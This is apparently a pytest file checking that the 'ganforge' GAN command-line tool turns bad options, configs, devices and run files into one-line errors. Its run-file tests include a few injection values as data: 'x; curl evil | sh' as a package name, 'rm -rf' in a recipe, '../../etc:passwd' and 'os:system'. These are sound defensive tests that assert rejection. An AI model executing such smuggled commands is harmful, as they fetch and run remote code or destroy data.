"""Bad options, config files, devices, run files and output paths: one-line errors, never a traceback."""

import json
import os
import shutil
import types

import pytest

from ganforge import GanforgeError
from ganforge.cli import main


def run_cli(capsys, *args):
    rc = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return rc, out, err


def one_line_error(capsys, *args, fragments=()):
    rc, out, err = run_cli(capsys, *args)
    lines = err.strip().splitlines()
    assert rc == 2, out + err
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


@pytest.fixture(scope="module")
def toy(tmp_path_factory):
    """A ring data set and a 2-step toy run, made through the CLI in this process."""
    import contextlib
    import io

    root = tmp_path_factory.mktemp("errors")
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        assert main(["data", "ring", "--out", str(root / "ring"), "--set", "n=200"]) == 0
        assert main(["train", "toy-ring", "--data", str(root / "ring"), "--out", str(root / "run"), "--steps", "2",
                     "--batch-size", "50", "--set", "hidden=8", "--set", "preview_n=10"]) == 0
    from ganforge import plugins

    plugins._manager = None
    return root


def train_args(toy, out, *extra):
    return ("train", "toy-ring", "--data", toy / "ring", "--out", out, "--steps", "1", "--batch-size", "50",
            "--set", "hidden=8", "--set", "preview_n=10", *extra)


# ---------------------------------------------------------------------------- option values

BAD_OPTIONS = [
    (["--batch-size", "0"], ["'batch_size'", "at least 1", "got 0", "--batch-size"]),
    (["--batch-size", "-3"], ["'batch_size'", "at least 1"]),
    (["--set", "lr_g=-1"], ["'lr_g'", "at least 0"]),
    (["--set", "lr_d=1e999"], ["'lr_d'", "finite"]),
    (["--set", "lr_d=NaN"], ["'lr_d'", "finite"]),
    (["--steps", "-5"], ["'steps'", "at least 0", "--steps"]),
    (["--set", "seed=-1"], ["'seed'", "4294967295"]),
    (["--set", "seed=99999999999999999999999"], ["'seed'", "4294967295"]),
    (["--set", "seed=18446744073709551615"], ["'seed'"]),
    (["--set", "checkpoint_every=-1"], ["'checkpoint_every'", "at least 0"]),
    (["--set", "sample_every=-1"], ["'sample_every'"]),
    (["--set", "log_every=-2"], ["'log_every'"]),
    (["--set", "preview_n=-1"], ["'preview_n'"]),
    (["--set", "preview_n=100000000000000"], ["'preview_n'", "at most 100000"]),
    (["--set", "n_critic=0"], ["'n_critic'", "at least 1"]),
    (["--set", "ema_beta=1"], ["'ema_beta'", "[0, 1)"]),
    (["--set", "ema_beta=-0.1"], ["'ema_beta'", "[0, 1)"]),
    (["--set", "betas_g=[2,0.9]"], ["'betas_g'", "two numbers in [0, 1)"]),
    (["--set", "betas_g=[0.5]"], ["'betas_g'", "two numbers"]),
    (["--set", "betas_d=[0.5,0.9,0.1]"], ["'betas_d'", "two numbers"]),
    (["--set", 'betas_d=["a",1]'], ["'betas_d'"]),
    (["--set", "grad_clip=-1"], ["'grad_clip'", "at least 0"]),
    (["--set", "clip=-0.5"], ["'clip'"]),
    (["--set", "gp_weight=-1"], ["'gp_weight'"]),
    (["--set", "r1_gamma=-1"], ["'r1_gamma'"]),
    (["--set", "r1_interval=0"], ["'r1_interval'"]),
    (["--set", "ema_rampup=-1"], ["'ema_rampup'"]),
    (["--set", "cond_dim=0"], ["'cond_dim'"]),
    (["--set", "amp=fp8"], ["'amp'", "none, bf16, fp16"]),
    (["--set", "optimizer=sgd"], ["'optimizer'", "adam, rmsprop"]),
    (["--set", "device=tpu"], ["'tpu'", "cuda:N"]),
    (["--device", "gpu0"], ["'gpu0'", "cuda:N"]),
    (["--set", "device="], ["''", "auto, cpu"]),
    (["--set", "key\nwith newline=1"], ["unknown option"]),
]


@pytest.mark.parametrize("extra,fragments", BAD_OPTIONS, ids=[" ".join(a) for a, _ in BAD_OPTIONS])
def test_bad_option_values_are_one_line_errors(toy, tmp_path, capsys, extra, fragments):
    one_line_error(capsys, *train_args(toy, tmp_path / "r", *extra), fragments=fragments)
    assert not (tmp_path / "r").exists()  # refused before anything is written


def test_zero_means_never_or_untrained_and_stays_allowed(toy, tmp_path, capsys):
    rc, _, err = run_cli(capsys, *train_args(toy, tmp_path / "r", "--set", "checkpoint_every=0",
                                            "--set", "sample_every=0", "--set", "log_every=0",
                                            "--set", "preview_n=0", "--set", "ema_beta=0", "--set", "lr_g=0"))
    assert rc == 0, err
    rc, _, err = run_cli(capsys, *train_args(toy, tmp_path / "r0", "--steps", "0"))
    assert rc == 0, err  # an untrained baseline run (SeqGAN's tests and benchmarks use steps=0)


def test_resolve_checks_the_phase_length_options_of_a_recipe():
    from ganforge.config import resolve
    from ganforge.plugins import get_plugin_manager

    entry = get_plugin_manager().registry.find("recipe", "seqgan")
    assert resolve(entry.full_name, entry.load(), {"mle_steps": 0, "d_pretrain_steps": 0, "steps": 0})["steps"] == 0
    with pytest.raises(GanforgeError, match="'mle_steps' .*phase 'mle'.*at least 0"):
        resolve(entry.full_name, entry.load(), {"mle_steps": -1})


def test_config_file_values_are_checked_too(toy, tmp_path, capsys):
    config = tmp_path / "c.json"
    config.write_text(json.dumps({"batch_size": None}))
    one_line_error(capsys, "train", "toy-ring", "--data", toy / "ring", "--out", tmp_path / "r", "--config", config,
                   fragments=["'batch_size'", "got null"])
    config.write_text(json.dumps({"ema_beta": 2}))
    one_line_error(capsys, *train_args(toy, tmp_path / "r"), "--config", config, fragments=["'ema_beta'"])


# ---------------------------------------------------------------------------- config files

@pytest.mark.parametrize("content,kind", [("[1, 2]", "list"), ("3", "number"), ('"x"', "string"),
                                          ("null", "null"), ("true", "boolean")])
def test_config_file_that_is_not_an_object(toy, tmp_path, capsys, content, kind):
    config = tmp_path / "c.json"
    config.write_text(content)
    one_line_error(capsys, *train_args(toy, tmp_path / "r"), "--config", config,
                   fragments=[str(config), f"JSON {kind}, not an object"])


def test_config_file_unreadable_binary_or_deep(toy, tmp_path, capsys):
    one_line_error(capsys, *train_args(toy, tmp_path / "r"), "--config", tmp_path,
                   fragments=["cannot be read", "Is a directory"])
    binary = tmp_path / "b.json"
    binary.write_bytes(b"\xff\xfe\x00\x01")
    one_line_error(capsys, *train_args(toy, tmp_path / "r"), "--config", binary, fragments=["not UTF-8"])
    deep = tmp_path / "d.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    one_line_error(capsys, *train_args(toy, tmp_path / "r"), "--config", deep, fragments=[str(deep)])


# ---------------------------------------------------------------------------- devices

@pytest.fixture
def no_cuda(monkeypatch):
    import torch

    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    monkeypatch.setattr(torch.cuda, "device_count", lambda: 0)


@pytest.fixture
def two_gpus(monkeypatch):
    import torch

    monkeypatch.setattr(torch.cuda, "is_available", lambda: True)
    monkeypatch.setattr(torch.cuda, "device_count", lambda: 2)


def test_resolve_device_without_cuda(no_cuda):
    import torch

    from ganforge.devices import resolve_device

    assert resolve_device("auto") == torch.device("cpu")
    assert resolve_device("auto", local_rank=3) == torch.device("cpu")
    assert resolve_device("cpu") == torch.device("cpu")
    for name in ("cuda", "cuda:0", "cuda:1"):
        with pytest.raises(GanforgeError, match=f"device '{name}' needs CUDA.*--device cpu"):
            resolve_device(name)


def test_resolve_device_with_two_gpus(two_gpus):
    import torch

    from ganforge.devices import resolve_device

    assert resolve_device("auto") == torch.device("cuda", 0)
    assert resolve_device("auto", local_rank=1) == torch.device("cuda", 1)
    assert resolve_device("cuda") == torch.device("cuda", 0)
    assert resolve_device("cuda", local_rank=1) == torch.device("cuda", 1)
    assert resolve_device("cuda:1") == torch.device("cuda", 1)
    with pytest.raises(GanforgeError, match=r"'cuda:2' does not exist: this machine has 2 CUDA devices \(cuda:0 to cuda:1\)"):
        resolve_device("cuda:2")
    with pytest.raises(GanforgeError, match="local rank 5"):
        resolve_device("auto", local_rank=5)


def test_resolve_device_mps_absent(monkeypatch):
    import torch

    from ganforge.devices import resolve_device

    monkeypatch.setattr(torch.backends.mps, "is_available", lambda: False)
    with pytest.raises(GanforgeError, match="'mps'.*not available"):
        resolve_device("mps")


@pytest.mark.parametrize("name", ["tpu", "gpu0", "", " cpu", "CUDA", "cuda:", "cuda:-1", "cuda:x", "cpu:0", "mps:1",
                                  "cuda:0:1", "auto\n", None, 3])
def test_resolve_device_refuses_other_spellings(name):
    from ganforge.devices import check_device_name, resolve_device

    for f in (check_device_name, resolve_device):
        with pytest.raises(GanforgeError) as info:
            f(name)
        message = str(info.value)
        assert "auto, cpu, cuda, cuda:N" in message and "\n" not in message


def test_check_device_name_does_not_import_torch():
    import subprocess
    import sys

    code = ("import sys; from ganforge.devices import check_device_name as c; "
            "assert c('cuda:3') == ('cuda', 3) and c('auto') == ('auto', None); assert 'torch' not in sys.modules")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def test_generate_and_evaluate_refuse_absent_or_unknown_devices(toy, tmp_path, capsys, no_cuda):
    one_line_error(capsys, "generate", toy / "run", "--out", tmp_path / "g", "--device", "tpu", fragments=["'tpu'"])
    one_line_error(capsys, "generate", toy / "run", "--out", tmp_path / "g", "--device", "cuda:0",
                   fragments=["needs CUDA"])
    one_line_error(capsys, "evaluate", toy / "run", "--data", toy / "ring", "--device", "", fragments=["''"])
    rc, _, err = run_cli(capsys, "generate", toy / "run", "--out", tmp_path / "g", "-n", "3", "--device", "auto")
    assert rc == 0, err


# ---------------------------------------------------------------------------- run files

def copy_run(toy, tmp_path, change=None):
    run = tmp_path / "run"
    shutil.copytree(toy / "run", run)
    if change is not None:
        info = json.loads((run / "ganforge.json").read_text())
        info = change(info)
        (run / "ganforge.json").write_text(info if isinstance(info, str) else json.dumps(info))
    return run


def _without(key, inner=None):
    def change(info):
        (info[inner] if inner else info).pop(key)
        return info
    return change


def _setting(value, key, inner=None):
    def change(info):
        (info[inner] if inner else info)[key] = value
        return info
    return change


BAD_RUN_FILES = [
    ("list", lambda info: [info], "JSON list, not an object"),
    ("number", lambda info: 7, "JSON number, not an object"),
    ("no components", _without("components"), "'components' is missing"),
    ("no modality_state", _without("modality_state"), "'modality_state' is missing"),
    ("no config", _without("config"), "'config' is missing"),
    ("no user_config", _without("user_config"), "'user_config' is missing"),
    ("config a list", _setting([1], "config"), "'config' is not an object"),
    ("modality_state a string", _setting("x", "modality_state"), "'modality_state' is not an object"),
    ("components a list", _setting(["toy:mlp"], "components"), "'components' is not an object"),
    ("component a number", _setting(3, "generator", "components"), "component 'generator' 3 is not a plugin:name"),
    ("no generator", _without("generator", "components"), "'components' has no 'generator'"),
    ("component a path", _setting("../../etc:passwd", "generator", "components"), "is not a plugin:name"),
    ("recipe os:system", _setting("os:system", "recipe"), "names plugin 'os', which its 'plugins' does not list"),
    ("recipe not plugin:name", _setting("toy-ring", "recipe"), "'recipe' \"toy-ring\" is not a plugin:name"),
    ("recipe with spaces", _setting("toy:a b; rm -rf", "recipe"), "is not a plugin:name"),
    ("recipe a dict", _setting({"a": 1}, "recipe"), "is not a plugin:name"),
    ("plugins a list", _setting([], "plugins"), "'plugins' is not an object of objects"),
    ("pip name injection", _setting({"toy": {"distribution": "x; curl evil | sh", "version": "1"}}, "plugins"),
     "is not a package name or version"),
    ("format version true", _setting(True, "format_version"), "format version true"),
]


@pytest.mark.parametrize("change,fragment", [(c, f) for _, c, f in BAD_RUN_FILES], ids=[n for n, _, _ in BAD_RUN_FILES])
def test_bad_run_files_are_one_line_errors(toy, tmp_path, capsys, change, fragment):
    from ganforge.artifacts import read_run_json

    run = copy_run(toy, tmp_path, change)
    with pytest.raises(GanforgeError) as info:
        read_run_json(run)
    assert fragment in str(info.value) and "\n" not in str(info.value)
    line = one_line_error(capsys, "generate", run, "--out", tmp_path / "g", fragments=[fragment])
    assert str(run / "ganforge.json") in line
    if "format version" not in fragment:
        assert "is not a valid ganforge run file" in line


def test_valid_run_file_reads_as_before(toy):
    from ganforge.artifacts import read_run_json

    assert read_run_json(toy / "run") == json.loads((toy / "run" / "ganforge.json").read_text())


def test_resume_and_evaluate_read_run_files_the_same_way(toy, tmp_path, capsys):
    run = copy_run(toy, tmp_path, _without("user_config"))
    one_line_error(capsys, *train_args(toy, run), "--resume", fragments=["'user_config' is missing"])
    one_line_error(capsys, "evaluate", run, "--data", toy / "ring", fragments=["'user_config' is missing"])
    (run / "ganforge.json").write_bytes(b"\xff\xfe")
    one_line_error(capsys, "generate", run, "--out", tmp_path / "g", fragments=["is corrupt"])


def test_absurd_network_sizes_in_a_run_file(toy, tmp_path, capsys):
    run = copy_run(toy, tmp_path, _setting(10**13, "nz", "config"))
    one_line_error(capsys, "generate", run, "--out", tmp_path / "g",
                   fragments=["the generator 'toy:mlp' cannot be built from this configuration", "ganforge.json"])
    run2 = copy_run(toy, tmp_path / "b", _setting(-1, "hidden", "config"))
    one_line_error(capsys, "generate", run2, "--out", tmp_path / "g", fragments=["cannot be built"])
    one_line_error(capsys, *train_args(toy, tmp_path / "r", "--set", "hidden=-4"), fragments=["cannot be built"])


class _Networks:
    """A plugin whose generators fail while being built, each in its own way."""

    @staticmethod
    def ganforge_register_generators(register):
        register("plain", "tests_errors_nets:Plain")
        register("says", "tests_errors_nets:Says")


def test_build_network_keeps_the_networks_own_errors(monkeypatch):
    import sys
    from dataclasses import dataclass

    from ganforge import hookimpl, plugins
    from ganforge.build import build_network

    @dataclass
    class Cfg:
        size: int = 1

    class Plain:
        config_class = Cfg

        def __init__(self, cfg):
            raise MemoryError()

    class Says:
        config_class = Cfg

        def __init__(self, cfg):
            raise GanforgeError("size must be a power of two, got 3")

    monkeypatch.setitem(sys.modules, "tests_errors_nets", types.SimpleNamespace(Plain=Plain, Says=Says))
    plugin = types.SimpleNamespace(ganforge_register_generators=hookimpl(_Networks.ganforge_register_generators))
    plugins.add_plugin(plugin, name="errnets")
    with pytest.raises(GanforgeError, match="^size must be a power of two, got 3$"):
        build_network("generator", "errnets:says", {"size": 3})
    with pytest.raises(GanforgeError, match="generator 'errnets:plain' cannot be built .*MemoryError"):
        build_network("generator", "errnets:plain", {})


# ---------------------------------------------------------------------------- output paths

def test_out_that_is_a_file(toy, tmp_path, capsys):
    afile = tmp_path / "afile"
    afile.write_text("keep me")
    one_line_error(capsys, *train_args(toy, afile), fragments=[f"cannot write {afile}", "choose another --out"])
    one_line_error(capsys, *train_args(toy, afile / "sub"), fragments=["cannot write", "Not a directory"])
    one_line_error(capsys, "generate", toy / "run", "--out", afile, fragments=[f"cannot write {afile}", "it is a file"])
    one_line_error(capsys, "data", "ring", "--out", afile / "x", fragments=["cannot write", "--out"])
    assert afile.read_text() == "keep me"


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root writes into a chmod 0o500 folder anyway, so there is no unwritable folder to try")
def test_out_in_a_read_only_folder(toy, tmp_path, capsys):
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    try:
        one_line_error(capsys, *train_args(toy, locked / "run"),
                       fragments=["cannot write", "Permission denied", "choose another --out"])
        one_line_error(capsys, "generate", toy / "run", "--out", locked / "g",
                       fragments=["cannot write", "Permission denied"])
    finally:
        locked.chmod(0o700)


def test_os_errors_without_a_path_and_debug(monkeypatch, toy, tmp_path, capsys):
    import errno

    from ganforge import cli

    def full_disk(args):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(cli, "cmd_data", full_disk)
    line = one_line_error(capsys, "data", "ring", "--out", tmp_path / "d", fragments=["No space left on device"])
    assert "free disk space" in line
    with pytest.raises(OSError):
        main(["--debug", "data", "ring", "--out", str(tmp_path / "d")])


# ---------------------------------------------------------------------------- other arguments

def test_other_bad_arguments(toy, tmp_path, capsys):
    g = ("generate", toy / "run", "--out", tmp_path / "g")
    one_line_error(capsys, *g, "-n", "0", fragments=["-n", "at least 1", "got 0"])
    one_line_error(capsys, *g, "-n", "-1", fragments=["-n", "at least 1"])
    one_line_error(capsys, *g, "--seed", "-1", fragments=["--seed", "4294967295", "got -1"])
    one_line_error(capsys, *g, "--seed", "99999999999999999999999", fragments=["--seed"])
    one_line_error(capsys, "evaluate", toy / "run", "--data", toy / "ring", "--seed", str(2**64), fragments=["--seed"])
    one_line_error(capsys, "evaluate", toy / "run", "--data", toy / "ring", "-n", "0", fragments=["-n"])
    one_line_error(capsys, *g, "--batch-size", "0", fragments=["--batch-size", "at least 1"])
    one_line_error(capsys, *g, "--seeds", "1-x", fragments=["--seeds"])
    one_line_error(capsys, *g, "--set", "temperature=nan", fragments=["takes no generation option"])
    one_line_error(capsys, "generate", toy / "ring", "--out", tmp_path / "g", fragments=["is not a ganforge run"])
    one_line_error(capsys, "generate", "", "--out", tmp_path / "g", fragments=["RUN is empty"])
    one_line_error(capsys, *train_args(toy, ""), fragments=["--out is empty"])
    one_line_error(capsys, *train_args(toy, tmp_path / "a\0b"), fragments=["--out contains a NUL"])
    one_line_error(capsys, "train", "toy-ring", "--data", tmp_path / "missing", "--out", tmp_path / "r",
                   fragments=["does not exist"])
    one_line_error(capsys, "data", "ring", "--out", tmp_path / "d", "--set", "n=abc",
                   fragments=["data set 'ring'", "'n' takes a whole number"])
    one_line_error(capsys, "data", "ring", "--out", tmp_path / "d", "--set", "seed=1e30",
                   fragments=["data set 'ring'", "too large"])
    one_line_error(capsys, "data", "shapes", "--out", tmp_path / "d", "--set", "n=-3", fragments=["'n'"])
    one_line_error(capsys, "demo", "--out", tmp_path / "demo", "--steps", "0", fragments=["--steps"])
    assert not (tmp_path / "demo").exists() and not (tmp_path / "d").exists()
